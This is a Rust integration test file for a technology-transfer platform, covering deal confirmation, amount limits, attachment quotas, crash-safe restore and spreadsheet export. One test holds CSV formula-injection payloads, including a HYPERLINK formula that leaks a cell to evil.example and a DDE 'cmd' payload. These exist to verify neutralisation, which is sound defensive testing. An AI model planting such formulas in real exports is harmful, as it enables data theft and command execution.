//! The official figures against a hostile party: a deal one side records alone counts
//! only once the other side confirms it; implausible amounts are refused, and a row
//! written around the platform takes no figures page down on either database; the
//! spreadsheets the platform writes never run a formula; an organisation's attachments
//! are bounded; and a restore interrupted at any step leaves a database that opens.

use std::path::Path;

use reqwest::StatusCode;
use sea_orm::{ConnectionTrait, DatabaseConnection, DbBackend, Statement};
use serde_json::{Value, json};

use super::{
    Client, DEMO_PASSWORD, MODERATOR, Server, need_body, on_each_database, published_need,
};

const RANGE: &str = "from=2020-01-01&to=2030-12-31";

/// The confirmed deals and their 技术交易额 the statistics API counts.
async fn counted(bureau: &Client, server: &Server) -> (i64, i64) {
    let (status, figures) = bureau
        .get(server, &format!("/api/v1/statistics?{RANGE}"))
        .await;
    assert_eq!(status, StatusCode::OK, "{figures}");
    let totals = &figures["totals"];
    (
        totals["deals_signed"].as_i64().unwrap_or(-1),
        totals["technology_amount_yuan"].as_i64().unwrap_or(-1),
    )
}

fn message(body: &Value) -> String {
    body["error"]["message"].as_str().unwrap_or("").to_owned()
}

/// A published achievement of the demo research institute.
async fn researcher_achievement(researcher: &Client, server: &Server) -> String {
    let (_, own) = researcher.get(server, "/api/v1/me/postings").await;
    own["postings"]
        .as_array()
        .and_then(|p| p.iter().find(|p| p["status"] == "published"))
        .and_then(|p| p["external_id"].as_str())
        .unwrap_or_else(|| panic!("the demo researcher has published achievements: {own}"))
        .to_owned()
}

/// A new enterprise's published need and an accepted contact with the demo institute.
/// The bureau verifies the enterprise unless it is to stay a stranger's provisional one.
async fn accepted_contact(
    server: &Server,
    email: &str,
    org: &str,
    verified: bool,
) -> (Client, Client, String) {
    let enterprise = Client::register(server, email, "enterprise", org).await;
    if verified {
        let bureau = Client::login(server, MODERATOR, DEMO_PASSWORD).await;
        let n = email.len() * 1000 + org.chars().count();
        super::verified_by_the_bureau(server, &bureau, &enterprise, n).await;
    }
    let (_, need) =
        published_need(server, &enterprise, need_body(&format!("{org}的改性需求"))).await;
    let researcher = Client::login(server, "researcher@demo.techmatch", DEMO_PASSWORD).await;
    let achievement = researcher_achievement(&researcher, server).await;
    let request = json!({"need": need, "achievement": achievement, "message": "希望交流。"});
    let (status, created) = enterprise.post(server, "/api/v1/contacts", request).await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let path = format!(
        "/api/v1/contacts/{}",
        created["id"].as_i64().unwrap_or_default()
    );
    let (status, body) = researcher
        .post(
            server,
            &format!("{path}/actions"),
            json!({"action": "accept"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    (enterprise, researcher, path)
}

fn sign(contract: &str, technology: &str) -> Value {
    json!({"action": "sign", "deal": {
        "contract_type": "技术开发", "contract_amount": contract,
        "technology_amount": technology, "researcher_share_percent": "70"}})
}

#[tokio::test]
async fn a_deal_counts_only_once_the_other_side_confirms_it() {
    on_each_database(&[], |server, _| async move {
        let bureau = Client::login(&server, MODERATOR, DEMO_PASSWORD).await;
        let (deals, technology) = counted(&bureau, &server).await;
        assert!(
            deals >= 1 && technology > 0,
            "the demo shows confirmed deals"
        );

        // The demo also has a deal the institute recorded that waits for the enterprise,
        // which confirms it on the contact's page.
        let demo_enterprise = Client::page_login(&server, "enterprise@demo.techmatch").await;
        let (_, list) = demo_enterprise.get(&server, "/api/v1/contacts").await;
        let mut waiting = None;
        for contact in list["contacts"].as_array().cloned().unwrap_or_default() {
            let id = contact["id"].as_i64().unwrap_or_default();
            let (_, seen) = demo_enterprise
                .get(&server, &format!("/api/v1/contacts/{id}"))
                .await;
            if seen["deal"]["confirmation"] == "awaiting" {
                waiting = Some((
                    id,
                    seen["deal"]["technology_amount_yuan"].as_i64().unwrap_or(0),
                ));
            }
        }
        let (id, awaiting_amount) =
            waiting.unwrap_or_else(|| panic!("a demo deal awaits confirmation: {list}"));
        let (status, html, token) = demo_enterprise
            .page(&server, &format!("/contacts/{id}"))
            .await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            html.contains("待对方确认") && html.contains(&format!("/contacts/{id}/deal")),
            "{html}"
        );
        let status = demo_enterprise
            .form(
                &server,
                &format!("/contacts/{id}/deal"),
                &[("csrf", &token), ("answer", "confirm")],
            )
            .await;
        assert_eq!(status, StatusCode::SEE_OTHER);
        assert_eq!(
            counted(&bureau, &server).await,
            (deals + 1, technology + awaiting_amount)
        );
        let (deals, technology) = (deals + 1, technology + awaiting_amount);

        // One side records a deal alone: it is not counted.
        let (enterprise, researcher, path) = accepted_contact(
            &server,
            "seller@deal.example.cn",
            "自报成交测试有限公司",
            true,
        )
        .await;
        let (status, body) = enterprise
            .post(&server, &format!("{path}/actions"), sign("120", "100"))
            .await;
        assert_eq!(
            (status, body["status"].clone()),
            (StatusCode::OK, json!("signed")),
            "{body}"
        );
        let (_, seen) = researcher.get(&server, &path).await;
        assert_eq!(seen["deal"]["confirmation"], "awaiting", "{seen}");
        assert_eq!(
            counted(&bureau, &server).await,
            (deals, technology),
            "one side's word is not a deal"
        );
        let report = |bureau: &Client| {
            let bureau = bureau.clone();
            let server = &server;
            async move {
                let year = chrono::Utc::now().format("%Y").to_string();
                let response = bureau
                    .http
                    .get(server.url(&format!("/api/v1/statistics/report?year={year}&format=csv")))
                    .send()
                    .await
                    .unwrap_or_else(|e| panic!("{e}"));
                assert_eq!(response.status(), StatusCode::OK);
                response.text().await.unwrap_or_default()
            }
        };
        assert!(
            !report(&bureau).await.contains("自报成交测试有限公司"),
            "not in the yearly report either"
        );

        // Nobody but the other side confirms: not the recording side, not a third
        // organisation, not the bureau; and a dispute needs a reason.
        let confirm = json!({"answer": "confirm"});
        let (status, body) = enterprise
            .post(&server, &format!("{path}/deal"), confirm.clone())
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        assert!(message(&body).contains("对方"), "{body}");
        let stranger = Client::register(
            &server,
            "stranger@third.example.cn",
            "researcher",
            "第三方研究院",
        )
        .await;
        let (status, body) = stranger
            .post(&server, &format!("{path}/deal"), confirm.clone())
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        let (status, _) = bureau
            .post(&server, &format!("{path}/deal"), confirm.clone())
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        let (status, body) = researcher
            .post(
                &server,
                &format!("{path}/deal"),
                json!({"answer": "dispute"}),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        let (_, seen) = researcher.get(&server, &path).await;
        assert_eq!(
            seen["deal"]["confirmation"], "awaiting",
            "nothing changed: {seen}"
        );
        assert_eq!(counted(&bureau, &server).await, (deals, technology));

        // The other side confirms: now it counts, once.
        let (status, body) = researcher
            .post(&server, &format!("{path}/deal"), confirm.clone())
            .await;
        assert_eq!(
            (status, body["confirmation"].clone()),
            (StatusCode::OK, json!("confirmed")),
            "{body}"
        );
        assert_eq!(
            counted(&bureau, &server).await,
            (deals + 1, technology + 1_000_000)
        );
        let (status, _) = researcher
            .post(&server, &format!("{path}/deal"), confirm)
            .await;
        assert_eq!(status, StatusCode::CONFLICT, "answered once");
        assert!(report(&bureau).await.contains("自报成交测试有限公司"));

        // A disputed deal never counts.
        let (enterprise, researcher, path) = accepted_contact(
            &server,
            "other@deal.example.cn",
            "异议成交测试有限公司",
            true,
        )
        .await;
        let (status, _) = researcher
            .post(&server, &format!("{path}/actions"), sign("80", "80"))
            .await;
        assert_eq!(status, StatusCode::OK);
        let dispute = json!({"answer": "dispute", "reason": "合同金额与实际不符"});
        let (status, body) = enterprise
            .post(&server, &format!("{path}/deal"), dispute)
            .await;
        assert_eq!(
            (status, body["confirmation"].clone()),
            (StatusCode::OK, json!("disputed")),
            "{body}"
        );
        assert_eq!(
            counted(&bureau, &server).await,
            (deals + 1, technology + 1_000_000)
        );
    })
    .await;
}

/// `sql` with its `?` placeholders numbered for PostgreSQL.
fn statement(backend: DbBackend, sql: &str, values: Vec<sea_orm::Value>) -> Statement {
    let mut text = String::new();
    let mut n = 0;
    for c in sql.chars() {
        if c == '?' && backend == DbBackend::Postgres {
            n += 1;
            text.push_str(&format!("${n}"));
        } else {
            text.push(c);
        }
    }
    Statement::from_sql_and_values(backend, text, values)
}

/// Writes a confirmed deal of 900,000,000,000,000 万元 straight into the database, for
/// a contact created the same way.
async fn write_huge_deal(conn: &DatabaseConnection, need_id: i64, achievement_id: i64) {
    let backend = conn.get_database_backend();
    let now = chrono::Utc::now();
    let contact = statement(
        backend,
        "INSERT INTO contacts (need_id, achievement_id, initiator_side, initiator_user_id, \
         message, status, created_at, updated_at) \
         VALUES (?, ?, 'need', 1, 'x', 'signed', ?, ?) RETURNING id",
        vec![
            need_id.into(),
            achievement_id.into(),
            now.into(),
            now.into(),
        ],
    );
    let id: i64 = conn
        .query_one_raw(contact)
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .and_then(|row| row.try_get_by_index(0).ok())
        .unwrap_or_else(|| panic!("no contact id"));
    let huge: i64 = 9_000_000_000_000_000_000;
    let deal = statement(
        backend,
        "INSERT INTO deals (contact_id, contract_type, contract_amount_yuan, \
         technology_amount_yuan, researcher_share_percent, recorded_by, signed_at, confirmation) \
         VALUES (?, 'transfer', ?, ?, 100, 1, ?, 'confirmed')",
        vec![id.into(), huge.into(), huge.into(), now.into()],
    );
    conn.execute_raw(deal)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
}

/// Pairs of a published need and a published achievement without a contact yet.
async fn free_pairs(conn: &DatabaseConnection, count: usize) -> Vec<(i64, i64)> {
    let backend = conn.get_database_backend();
    conn.query_all_raw(Statement::from_string(
        backend,
        format!(
            "SELECT n.id, a.id FROM needs n, achievements a \
             WHERE n.status = 'published' AND a.status = 'published' AND NOT EXISTS \
             (SELECT 1 FROM contacts c WHERE c.need_id = n.id AND c.achievement_id = a.id) \
             ORDER BY n.id, a.id LIMIT {count}"
        ),
    ))
    .await
    .unwrap_or_else(|e| panic!("{e}"))
    .iter()
    .filter_map(|row| Some((row.try_get_by_index(0).ok()?, row.try_get_by_index(1).ok()?)))
    .collect()
}

#[tokio::test]
async fn implausible_amounts_are_refused_and_a_bad_row_takes_no_figures_page_down() {
    on_each_database(&[], |server, conn| async move {
        let bureau = Client::login(&server, MODERATOR, DEMO_PASSWORD).await;
        let before = counted(&bureau, &server).await;

        // Through the platform: refused, naming the limit, and nothing is recorded.
        let (enterprise, _, path) = accepted_contact(
            &server,
            "inflate@deal.example.cn",
            "虚报金额测试有限公司",
            true,
        )
        .await;
        let (status, body) = enterprise
            .post(
                &server,
                &format!("{path}/actions"),
                sign("900000000000000", "900000000000000"),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        assert!(message(&body).contains("上限"), "{body}");
        let (_, seen) = enterprise.get(&server, &path).await;
        assert_eq!(
            (seen["status"].clone(), seen["deal"].clone()),
            (json!("accepted"), Value::Null)
        );

        // Around the platform: two rows whose sum overflows 64 bits.
        let pairs = free_pairs(&conn, 2).await;
        assert_eq!(pairs.len(), 2);
        for (need, achievement) in pairs {
            write_huge_deal(&conn, need, achievement).await;
        }
        assert_eq!(
            counted(&bureau, &server).await,
            before,
            "the rows count for nothing"
        );
        let year = chrono::Utc::now().format("%Y").to_string();
        for path in [
            format!("/bureau/dashboard?{RANGE}"),
            "/bureau/dashboard".to_owned(),
            format!("/api/v1/statistics/report?year={year}&format=csv"),
            format!("/api/v1/statistics/report?year={year}&format=xlsx"),
        ] {
            let response = bureau
                .http
                .get(server.url(&path))
                .send()
                .await
                .unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(response.status(), StatusCode::OK, "{path}");
        }
        let public = super::client();
        for path in ["/statistics", "/api/v1/public/statistics"] {
            let response = public
                .http
                .get(server.url(path))
                .send()
                .await
                .unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(response.status(), StatusCode::OK, "{path}");
        }
    })
    .await;
}

#[tokio::test]
async fn names_that_would_run_are_refused_and_exported_cells_never_run() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let data = dir.path().join("data");
    let server = crate::start(&data);

    // Registration refuses the name, and no organisation is created.
    let (status, body) = super::client()
        .post(
            &server,
            "/api/v1/users",
            json!({"email": "evil@formula.example.cn", "password": "a-good-password",
                   "display_name": "测试", "role": "enterprise",
                   "org_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(message(&body).contains("公式"), "{body}");
    let bureau = Client::login(&server, MODERATOR, DEMO_PASSWORD).await;
    let (_, orgs) = bureau.get(&server, "/api/v1/organisations").await;
    assert!(!orgs.to_string().contains("HYPERLINK"), "{orgs}");

    // A posting titled like a formula is accepted (titles are free text) but exported
    // behind a quote.
    let enterprise = Client::register(
        &server,
        "plain@formula.example.cn",
        "enterprise",
        "正常名称有限公司",
    )
    .await;
    let title = "=HYPERLINK(\"http://evil.example\",\"需求详情\")";
    published_need(&server, &enterprise, need_body(title)).await;
    drop(server);

    // An import row naming such an organisation is refused with the reason.
    let list = dir.path().join("needs.csv");
    std::fs::write(
        &list,
        "需求名称,需求描述,所属领域,企业名称\n钙粉改性,需要表面改性技术,新材料,＝cmd|' /C calc'!A0\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let output = crate::run(
        &data,
        &[
            "import",
            "needs",
            list.to_str().unwrap_or_default(),
            "--json",
        ],
    );
    let report = crate::stdout(&output);
    assert!(report.contains("公式"), "{report}");

    // A name that reached the database before the rule is exported neutralised too.
    {
        use sea_orm::ConnectOptions;
        let mut options = ConnectOptions::new(format!(
            "sqlite://{}?mode=rw",
            data.join("techmatch.db").display()
        ));
        options.max_connections(1);
        let conn = sea_orm::Database::connect(options)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        conn.execute_raw(Statement::from_string(
            sea_orm::DbBackend::Sqlite,
            "UPDATE organisations SET name = '＝cmd|'' /C calc''!A0' WHERE name = '正常名称有限公司'",
        ))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
        conn.close().await.unwrap_or_else(|e| panic!("{e}"));
    }
    let export = dir.path().join("export.csv");
    let output = crate::run(
        &data,
        &[
            "export",
            "needs",
            "--output",
            export.to_str().unwrap_or_default(),
        ],
    );
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let csv = std::fs::read_to_string(&export).unwrap_or_default();
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example\"\""),
        "{csv}"
    );
    assert!(csv.contains(",'＝cmd|' /C calc'!A0"), "{csv}");
}

#[tokio::test]
async fn an_organisation_cannot_fill_the_attachment_store() {
    let env = [("TECHMATCH_ATTACHMENT_QUOTA_MB", "1".to_owned())];
    on_each_database(&env, |server, _| async move {
        let enterprise = Client::login(&server, "enterprise@demo.techmatch", DEMO_PASSWORD).await;
        let (status, call) = enterprise
            .post(
                &server,
                "/api/v1/challenges",
                super::attachments::challenge_body(),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{call}");
        let files = format!(
            "/api/v1/challenges/{}/attachments",
            super::attachments::id_of(&call)
        );
        let mut file = super::attachments::MINIMAL_PDF.to_vec();
        file.resize(600 * 1024, b' ');
        let (status, body) = super::attachments::upload(
            &enterprise,
            &server,
            &files,
            "一.pdf",
            file.clone(),
            "application/pdf",
        )
        .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        let (status, body) = super::attachments::upload(
            &enterprise,
            &server,
            &files,
            "二.pdf",
            file,
            "application/pdf",
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        let refusal = message(&body);
        assert!(
            refusal.contains("二.pdf") && refusal.contains("1 MB"),
            "{refusal}"
        );
        let (_, listed) = enterprise.get(&server, &files).await;
        assert_eq!(
            listed
                .as_array()
                .or(listed["attachments"].as_array())
                .map(Vec::len),
            Some(1),
            "{listed}"
        );
    })
    .await;
}

/// Whether the data directory's database, opened as the next start would open it
/// (write-ahead log included), holds the marker row; `None` when it does not open.
async fn holds_marker(data: &Path) -> Option<bool> {
    let copy = tempfile::tempdir().ok()?;
    for suffix in ["", "-wal", "-shm"] {
        let from = data.join(format!("techmatch.db{suffix}"));
        if from.exists() {
            std::fs::copy(&from, copy.path().join(format!("techmatch.db{suffix}"))).ok()?;
        }
    }
    let url = format!(
        "sqlite://{}?mode=rw",
        copy.path().join("techmatch.db").display()
    );
    let conn = sea_orm::Database::connect(url).await.ok()?;
    let check = conn
        .query_one_raw(Statement::from_string(
            sea_orm::DbBackend::Sqlite,
            "PRAGMA integrity_check",
        ))
        .await
        .ok()??
        .try_get_by_index::<String>(0)
        .ok()?;
    if check != "ok" {
        return None;
    }
    let found = conn
        .query_one_raw(Statement::from_string(
            sea_orm::DbBackend::Sqlite,
            "SELECT COUNT(*) FROM settings WHERE key = 'restore_marker'",
        ))
        .await
        .ok()??
        .try_get_by_index::<i64>(0)
        .ok()?;
    conn.close().await.ok()?;
    Some(found > 0)
}

#[tokio::test]
async fn a_restore_interrupted_at_any_step_leaves_a_database_that_opens() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let live = dir.path().join("live");
    drop(crate::start(&live));
    let backup = dir.path().join("backup.db");
    let output = crate::run(&live, &["backup", backup.to_str().unwrap_or_default()]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );

    // A server that died with a committed row only in its write-ahead log: the files as
    // a connection that never checkpoints leaves them.
    let crashed = dir.path().join("crashed");
    std::fs::create_dir_all(&crashed).unwrap_or_else(|e| panic!("{e}"));
    {
        use sea_orm::ConnectOptions;
        let mut options = ConnectOptions::new(format!(
            "sqlite://{}?mode=rw",
            live.join("techmatch.db").display()
        ));
        options.max_connections(1);
        let conn = sea_orm::Database::connect(options)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        for sql in [
            "PRAGMA journal_mode=WAL",
            "PRAGMA wal_autocheckpoint=0",
            "INSERT INTO settings (key, value, updated_at) VALUES ('restore_marker', '1', '2026-01-01T00:00:00Z')",
        ] {
            conn.execute_raw(Statement::from_string(sea_orm::DbBackend::Sqlite, sql))
                .await
                .unwrap_or_else(|e| panic!("{sql}: {e}"));
        }
        for suffix in ["", "-wal", "-shm"] {
            let from = live.join(format!("techmatch.db{suffix}"));
            std::fs::copy(&from, crashed.join(format!("techmatch.db{suffix}")))
                .unwrap_or_else(|e| panic!("{e}"));
        }
        conn.close().await.unwrap_or_else(|e| panic!("{e}"));
    }
    assert!(
        std::fs::metadata(crashed.join("techmatch.db-wal")).is_ok_and(|m| m.len() > 0),
        "the marker lives in the log"
    );
    assert_eq!(holds_marker(&crashed).await, Some(true));

    // Stopped dead after each step: the old database with its last transaction, or the
    // restored one, always whole.
    for (step, old_expected) in [("staged", true), ("folded", true), ("replaced", false)] {
        let data = dir.path().join(step);
        std::fs::create_dir_all(&data).unwrap_or_else(|e| panic!("{e}"));
        for suffix in ["", "-wal", "-shm"] {
            let from = crashed.join(format!("techmatch.db{suffix}"));
            std::fs::copy(&from, data.join(format!("techmatch.db{suffix}")))
                .unwrap_or_else(|e| panic!("{e}"));
        }
        let output = crate::techmatch(&data)
            .args(["restore", backup.to_str().unwrap_or_default()])
            .env("TECHMATCH_RESTORE_CRASH_AFTER", step)
            .output()
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(
            !output.status.success(),
            "{step}: the restore was cut short"
        );
        assert_eq!(
            holds_marker(&data).await,
            Some(old_expected),
            "after {step}"
        );
    }

    // Run to the end: the restored database, and no log of the old one beside it.
    let output = crate::run(&crashed, &["restore", backup.to_str().unwrap_or_default()]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(!crashed.join("techmatch.db-wal").exists());
    assert_eq!(holds_marker(&crashed).await, Some(false));
}

#[tokio::test]
async fn a_self_registered_party_inflates_nothing_until_the_bureau_verifies_it() {
    on_each_database(&[], |server, _| async move {
        let bureau = Client::login(&server, MODERATOR, DEMO_PASSWORD).await;
        let before = counted(&bureau, &server).await;
        // A stranger's provisional enterprise signs with the institute, which confirms.
        let (enterprise, researcher, path) = accepted_contact(
            &server,
            "shell@deal.example.cn",
            "空壳成交测试有限公司",
            false,
        )
        .await;
        let (status, body) = enterprise
            .post(&server, &format!("{path}/actions"), sign("500", "400"))
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let (status, body) = researcher
            .post(
                &server,
                &format!("{path}/deal"),
                json!({"answer": "confirm"}),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(
            counted(&bureau, &server).await,
            before,
            "a provisional party counts for nothing"
        );

        super::verified_by_the_bureau(&server, &bureau, &enterprise, 424_242).await;
        assert_eq!(
            counted(&bureau, &server).await,
            (before.0 + 1, before.1 + 4_000_000),
            "verified, the confirmed deal counts"
        );
    })
    .await;
}
